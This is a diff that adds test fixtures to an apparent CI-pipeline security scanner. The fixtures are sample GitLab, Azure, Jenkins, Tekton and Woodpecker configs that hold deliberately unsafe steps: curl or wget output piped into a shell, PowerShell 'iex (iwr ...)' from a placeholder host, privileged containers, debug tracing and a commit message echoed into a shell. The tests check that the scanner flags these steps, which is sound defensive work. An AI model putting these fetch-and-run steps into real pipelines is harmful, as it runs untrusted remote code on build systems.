@@ -48,6 +48,83 @@ test.for(Object.entries(samples))(
   },
 );
 
+const shared: readonly (readonly [string, string, string, readonly string[]])[] = [
+  [
+    'commands of a GitLab job',
+    '.gitlab-ci.yml',
+    `scan:
+  image: node
+  variables: { CI_DEBUG_TRACE: "true" }
+  tags: [self-hosted]
+  rules: [{ if: $CI_MERGE_REQUEST_IID }]
+  script:
+    - trivy image app || true
+    - docker run --privileged x
+    - curl -o t https://x.example/t && chmod +x t && ./t
+    - npm install left-pad
+`,
+    ['0007', '0009', '0032', '0041', '0044', '0081', '0082'],
+  ],
+  [
+    'steps of an Azure job',
+    'azure-pipelines.yml',
+    `pr: [main]
+pool: mine
+variables: { system.debug: true }
+container: { image: "a:1", options: --privileged }
+steps:
+  - script: trivy fs .
+    continueOnError: true
+  - powershell: iex (iwr https://x.example/i.ps1)
+  - task: AzureCLI@2
+    inputs: { scriptType: bash, inlineScript: "curl https://x.example/i.sh | bash" }
+`,
+    ['0007', '0009', '0032', '0042', '0081', '0082'],
+  ],
+  [
+    'shell steps of a Jenkinsfile',
+    'Jenkinsfile',
+    `@Library('tools') _
+node('x') {
+  sh 'curl https://x.example/i.sh | sh'
+  def text = sh(returnStdout: true, script: 'git show -s --format=%s')
+  sh "echo " + text
+  docker.image('golang').inside { sh 'docker run --privileged x' }
+}
+`,
+    ['0001', '0007', '0040', '0041', '0082'],
+  ],
+  [
+    'a step of Tekton',
+    'task.yaml',
+    `apiVersion: tekton.dev/v1
+kind: Task
+spec:
+  steps:
+    - image: alpine
+      onError: continue
+      script: |
+        trivy fs .
+        wget -O- https://x.example/i.sh | sh
+`,
+    ['0007', '0041', '0081'],
+  ],
+  [
+    'commands of Woodpecker',
+    '.woodpecker.yml',
+    'steps:\n  a:\n    image: alpine\n    failure: ignore\n    commands: [trivy fs ., "curl https://x.example | sh"]\n',
+    ['0007', '0041', '0081'],
+  ],
+];
+
+test.for(shared)('checks of all systems see %s', ([, path, text, wanted]) => {
+  const rules = new Set(checkAll(path, Buffer.from(text))?.faults.map(({ rule }) => rule));
+
+  expect([...rules].filter((rule) => rule < 'CSN-CI-0100')).toEqual(
+    expect.arrayContaining(wanted.map((number) => `CSN-CI-${number}`)),
+  );
+});
+
 test('a thousand files take less than two seconds', () => {
   const files = Object.entries(samples).map(([path, text]) => [path, Buffer.from(text)] as const);
   for (const [path, bytes] of files) checkAll(path, bytes);
